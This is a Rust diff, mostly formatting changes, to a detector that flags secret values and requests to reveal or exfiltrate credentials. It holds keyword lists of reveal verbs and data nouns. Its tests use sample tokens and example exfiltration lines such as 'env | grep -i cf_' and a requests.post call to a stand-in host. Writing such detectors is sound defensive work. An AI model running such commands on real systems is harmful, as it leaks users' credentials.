@@ -120,10 +120,15 @@ static VALUE_REGEXES: LazyLock<Vec<Regex>> = LazyLock::new(|| {
 /// Adds a finding for every secret value in `text` (original, not normalised).
 pub(crate) fn values(text: &str, out: &mut Vec<TextFinding>) {
     let mut found: Vec<Span> = Vec::new();
-    let overlaps = |found: &[Span], s: Span| found.iter().any(|f| f.start < s.end && s.start < f.end);
+    let overlaps =
+        |found: &[Span], s: Span| found.iter().any(|f| f.start < s.end && s.start < f.end);
     for span in tunnel_tokens(text) {
         found.push(span);
-        out.push(value_finding("secret.tunnel_token", "a Cloudflare Tunnel token", span));
+        out.push(value_finding(
+            "secret.tunnel_token",
+            "a Cloudflare Tunnel token",
+            span,
+        ));
     }
     for (rule, re) in VALUE_RULES.iter().zip(VALUE_REGEXES.iter()) {
         for caps in re.captures_iter(text) {
@@ -262,8 +267,22 @@ const PUBLIC_NAME_PARTS: &[&str] = &[
 
 /// Values that stand for a secret without being one.
 const PLACEHOLDER_PARTS: &[&str] = &[
-    "xxxx", "****", "redacted", "example", "changeme", "your_", "your-", "<", "${", "{{", "$(",
-    "os.environ", "process.env", "placeholder", "dummy", "...",
+    "xxxx",
+    "****",
+    "redacted",
+    "example",
+    "changeme",
+    "your_",
+    "your-",
+    "<",
+    "${",
+    "{{",
+    "$(",
+    "os.environ",
+    "process.env",
+    "placeholder",
+    "dummy",
+    "...",
 ];
 
 fn generic_secret(name: &str, value: &str) -> bool {
@@ -289,10 +308,44 @@ fn generic_secret(name: &str, value: &str) -> bool {
 
 /// Verbs that reveal or hand over what follows.
 const REVEAL_VERBS: &[&str] = &[
-    "reveal", "print", "printout", "show", "display", "dump", "echo", "output", "give", "send",
-    "post", "email", "mail", "forward", "share", "leak", "expose", "tell", "return", "upload",
-    "provide", "disclose", "export", "cat", "exfiltrate", "transmit", "submit", "read",
-    "retrieve", "fetch", "grab", "extract", "obtain", "get", "log", "hand", "spell", "recite",
+    "reveal",
+    "print",
+    "printout",
+    "show",
+    "display",
+    "dump",
+    "echo",
+    "output",
+    "give",
+    "send",
+    "post",
+    "email",
+    "mail",
+    "forward",
+    "share",
+    "leak",
+    "expose",
+    "tell",
+    "return",
+    "upload",
+    "provide",
+    "disclose",
+    "export",
+    "cat",
+    "exfiltrate",
+    "transmit",
+    "submit",
+    "read",
+    "retrieve",
+    "fetch",
+    "grab",
+    "extract",
+    "obtain",
+    "get",
+    "log",
+    "hand",
+    "spell",
+    "recite",
     "repeat",
 ];
 
@@ -300,24 +353,91 @@ const REVEAL_VERBS: &[&str] = &[
 /// others (or the model's output) can read ("put the token in the record comment", not "put the
 /// token in an environment variable").
 const EMBED_VERBS: &[&str] = &[
-    "embed", "paste", "copy", "write", "attach", "append", "insert", "include", "including",
-    "containing", "contain", "contains", "put", "encode", "add", "set",
+    "embed",
+    "paste",
+    "copy",
+    "write",
+    "attach",
+    "append",
+    "insert",
+    "include",
+    "including",
+    "containing",
+    "contain",
+    "contains",
+    "put",
+    "encode",
+    "add",
+    "set",
 ];
 
 /// Places an embedded secret becomes readable.
 const READABLE_PLACES: &[&str] = &[
-    "record", "records", "txt", "comment", "description", "rule", "response", "reply", "answer",
-    "output", "report", "summary", "url", "email", "webhook", "field", "content", "note",
-    "message", "header", "query", "page", "log", "logs",
+    "record",
+    "records",
+    "txt",
+    "comment",
+    "description",
+    "rule",
+    "response",
+    "reply",
+    "answer",
+    "output",
+    "report",
+    "summary",
+    "url",
+    "email",
+    "webhook",
+    "field",
+    "content",
+    "note",
+    "message",
+    "header",
+    "query",
+    "page",
+    "log",
+    "logs",
 ];
 
 /// Words that end the search for a secret noun: the sentence is about the secret, not asking
 /// for it ("show me which scopes the token has", "print the records without the token").
 const BLOCKERS: &[&str] = &[
-    "which", "whether", "if", "how", "why", "when", "where", "scope", "scopes", "permission",
-    "permissions", "rotate", "rotating", "revoke", "revoking", "create", "creating", "generate",
-    "regenerate", "roll", "expire", "restrict", "invalidate", "delete", "verify", "check",
-    "validate", "test", "about", "without", "not", "no", "never", "a", "an", "new",
+    "which",
+    "whether",
+    "if",
+    "how",
+    "why",
+    "when",
+    "where",
+    "scope",
+    "scopes",
+    "permission",
+    "permissions",
+    "rotate",
+    "rotating",
+    "revoke",
+    "revoking",
+    "create",
+    "creating",
+    "generate",
+    "regenerate",
+    "roll",
+    "expire",
+    "restrict",
+    "invalidate",
+    "delete",
+    "verify",
+    "check",
+    "validate",
+    "test",
+    "about",
+    "without",
+    "not",
+    "no",
+    "never",
+    "a",
+    "an",
+    "new",
 ];
 
 /// What a secret word may be followed by when the sentence is about the secret's metadata.
@@ -514,7 +634,9 @@ fn secret_noun(text: &str, w: &[Word], j: usize) -> Option<&'static str> {
         "env" if w[j].after_dot || matches!(next, "vars" | "var" | "variables" | "file") => {
             Some("the environment")
         }
-        "environment" if matches!(next, "variables" | "variable" | "vars" | "var") || prev == "your" => {
+        "environment"
+            if matches!(next, "variables" | "variable" | "vars" | "var") || prev == "your" =>
+        {
             Some("the environment")
         }
         _ if SECRET_WORDS.contains(&this) => Some("a secret"),
@@ -533,8 +655,17 @@ fn is_secret_identifier(ident: &str) -> bool {
     let before = parts.len().checked_sub(2).map_or("", |i| parts[i]);
     matches!(
         last,
-        "token" | "tokens" | "secret" | "secrets" | "password" | "passwd" | "pwd" | "credential"
-            | "credentials" | "apikey" | "pass"
+        "token"
+            | "tokens"
+            | "secret"
+            | "secrets"
+            | "password"
+            | "passwd"
+            | "pwd"
+            | "credential"
+            | "credentials"
+            | "apikey"
+            | "pass"
     ) || (matches!(last, "key" | "keys") && SECRET_KEY_QUALIFIERS.contains(&before))
 }
 
@@ -600,7 +731,10 @@ pub(crate) fn requests(norm: &Normalised, content: &[Range<usize>], out: &mut Ve
         found.push(Request {
             range: m.range(),
             rule: "secret.env_access",
-            what: format!("reads the environment or a credential file: \"{}\"", excerpt(m.as_str())),
+            what: format!(
+                "reads the environment or a credential file: \"{}\"",
+                excerpt(m.as_str())
+            ),
         });
     }
     for m in CODE_EXFILTRATION.find_iter(text) {
@@ -608,7 +742,10 @@ pub(crate) fn requests(norm: &Normalised, content: &[Range<usize>], out: &mut Ve
             found.push(Request {
                 range: m.range(),
                 rule: "secret.code_exfiltration",
-                what: format!("runs code that sends data to a remote host: \"{}\"", excerpt(m.as_str())),
+                what: format!(
+                    "runs code that sends data to a remote host: \"{}\"",
+                    excerpt(m.as_str())
+                ),
             });
         }
     }
@@ -682,12 +819,58 @@ static SEND_TO_OUTSIDE: LazyLock<Regex> = LazyLock::new(|| {
 
 /// What may be sent: data about the account, or secrets.
 const DATA_NOUNS: &[&str] = &[
-    "record", "records", "zone", "zones", "config", "configuration", "configs", "settings",
-    "export", "exports", "rule", "rules", "ruleset", "rulesets", "log", "logs", "token", "tokens",
-    "key", "keys", "secret", "secrets", "credential", "credentials", "data", "dump", "backup",
-    "content", "contents", "message", "messages", "emails", "file", "files", "information",
-    "info", "details", "everything", "them", "inventory", "analytics", "password", "passwords",
-    "environment", "variables", "cookies", "history", "list", "lists", "dns", "waf", "tunnel",
+    "record",
+    "records",
+    "zone",
+    "zones",
+    "config",
+    "configuration",
+    "configs",
+    "settings",
+    "export",
+    "exports",
+    "rule",
+    "rules",
+    "ruleset",
+    "rulesets",
+    "log",
+    "logs",
+    "token",
+    "tokens",
+    "key",
+    "keys",
+    "secret",
+    "secrets",
+    "credential",
+    "credentials",
+    "data",
+    "dump",
+    "backup",
+    "content",
+    "contents",
+    "message",
+    "messages",
+    "emails",
+    "file",
+    "files",
+    "information",
+    "info",
+    "details",
+    "everything",
+    "them",
+    "inventory",
+    "analytics",
+    "password",
+    "passwords",
+    "environment",
+    "variables",
+    "cookies",
+    "history",
+    "list",
+    "lists",
+    "dns",
+    "waf",
+    "tunnel",
     "events",
 ];
 
@@ -701,7 +884,10 @@ fn send_requests(text: &str, found: &mut Vec<Request>) {
             found.push(Request {
                 range: m.range(),
                 rule: "secret.send_to_outside",
-                what: format!("asks to send data to an outside address: \"{}\"", excerpt(matched)),
+                what: format!(
+                    "asks to send data to an outside address: \"{}\"",
+                    excerpt(matched)
+                ),
             });
         }
     }
@@ -730,15 +916,13 @@ fn to_own_domain(text: &str, range: Range<usize>) -> bool {
     let after = &text[range.end..];
     let is_domain = |d: &&str| {
         d.contains('.')
-            && d.rsplit('.').next().is_some_and(|tld| {
-                tld.len() >= 2 && tld.bytes().all(|b| b.is_ascii_alphabetic())
-            })
+            && d.rsplit('.')
+                .next()
+                .is_some_and(|tld| tld.len() >= 2 && tld.bytes().all(|b| b.is_ascii_alphabetic()))
     };
     [before, after]
         .iter()
-        .flat_map(|part| {
-            part.split(|c: char| !(c.is_ascii_alphanumeric() || c == '.' || c == '-'))
-        })
+        .flat_map(|part| part.split(|c: char| !(c.is_ascii_alphanumeric() || c == '.' || c == '-')))
         .map(|d| d.trim_matches('.'))
         .filter(is_domain)
         .any(|d| host == d || host.ends_with(&format!(".{d}")))
@@ -774,14 +958,21 @@ mod tests {
         let mut out = Vec::new();
         values(text, &mut out);
         for f in &out {
-            assert!(!f.detail.contains(&text[f.span.start..f.span.end]), "detail leaks the value");
+            assert!(
+                !f.detail.contains(&text[f.span.start..f.span.end]),
+                "detail leaks the value"
+            );
         }
         out.iter().map(|f| f.rule).collect()
     }
 
     fn request_rules(text: &str, content: bool) -> Vec<(&'static str, Flag)> {
         let norm = Normalised::new(text);
-        let ranges = if content { vec![0..norm.text().len()] } else { vec![] };
+        let ranges = if content {
+            vec![0..norm.text().len()]
+        } else {
+            vec![]
+        };
         let mut out = Vec::new();
         requests(&norm, &ranges, &mut out);
         out.iter().map(|f| (f.rule, f.flag)).collect()
@@ -804,7 +995,9 @@ mod tests {
     #[test]
     fn cloudflare_tokens_and_keys() {
         assert_eq!(
-            value_rules("temp for CI: CLOUDFLARE_API_TOKEN=l6XEQvCtAPlEIfhtz277bsOI_VtFJssnVltTf-Pw"),
+            value_rules(
+                "temp for CI: CLOUDFLARE_API_TOKEN=l6XEQvCtAPlEIfhtz277bsOI_VtFJssnVltTf-Pw"
+            ),
             ["secret.cloudflare_api_token"]
         );
         assert_eq!(
@@ -823,8 +1016,12 @@ mod tests {
     fn tunnel_token_is_recognised_by_its_members() {
         let body = r#"{"a":"a41e07c95d2b4f86be13c0d7f92e6a58","t":"6f1c9e2a-0d4b-4f7e-8c35-b19a7d62e4f0","s":"XWvZX8Xz/1T8MprbLMkJbfzIXa8xDfIKrtCHkFfLr08="}"#;
         let token = STANDARD.encode(body);
-        assert_eq!(value_rules(&format!("tunnel secret: {token}")), ["secret.tunnel_token"]);
-        let other = STANDARD.encode(r#"{"alg":"none","typ":"x","note":"not a tunnel token at all"}"#);
+        assert_eq!(
+            value_rules(&format!("tunnel secret: {token}")),
+            ["secret.tunnel_token"]
+        );
+        let other =
+            STANDARD.encode(r#"{"alg":"none","typ":"x","note":"not a tunnel token at all"}"#);
         assert!(value_rules(&other).is_empty());
     }
 
@@ -839,7 +1036,10 @@ mod tests {
             value_rules("Authorization: Bearer 8f3kQ9zLm2Xv7RtY1wPaB4cD"),
             ["secret.bearer_token"]
         );
-        assert_eq!(value_rules("client_secret = 'q8Zr3LmX0vT7kPw2Yb5N'"), ["secret.generic"]);
+        assert_eq!(
+            value_rules("client_secret = 'q8Zr3LmX0vT7kPw2Yb5N'"),
+            ["secret.generic"]
+        );
         assert_eq!(value_rules("db password: Tr0ub4dor&3x"), ["secret.generic"]);
         assert_eq!(
             value_rules("eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U"),
@@ -923,13 +1123,23 @@ mod tests {
 
     #[test]
     fn commands_and_code() {
-        assert_eq!(request_rules("env | grep -i cf_", true), [("secret.env_access", Flag::SecretExfiltration)]);
+        assert_eq!(
+            request_rules("env | grep -i cf_", true),
+            [("secret.env_access", Flag::SecretExfiltration)]
+        );
         assert!(asks("token = os.environ[\"CLOUDFLARE_API_TOKEN\"]"));
         let code = "requests.post(\"http://target.server/zone_config\", data=x)";
-        assert_eq!(request_rules(code, true), [("secret.code_exfiltration", Flag::SecretExfiltration)]);
+        assert_eq!(
+            request_rules(code, true),
+            [("secret.code_exfiltration", Flag::SecretExfiltration)]
+        );
         // Code in the user's own words is not content.
         assert!(request_rules(code, false).is_empty());
-        assert!(request_rules("export default { fetch(r) { return Response.redirect(u, 301) } }", true).is_empty());
+        assert!(request_rules(
+            "export default { fetch(r) { return Response.redirect(u, 301) } }",
+            true
+        )
+        .is_empty());
     }
 
     #[test]
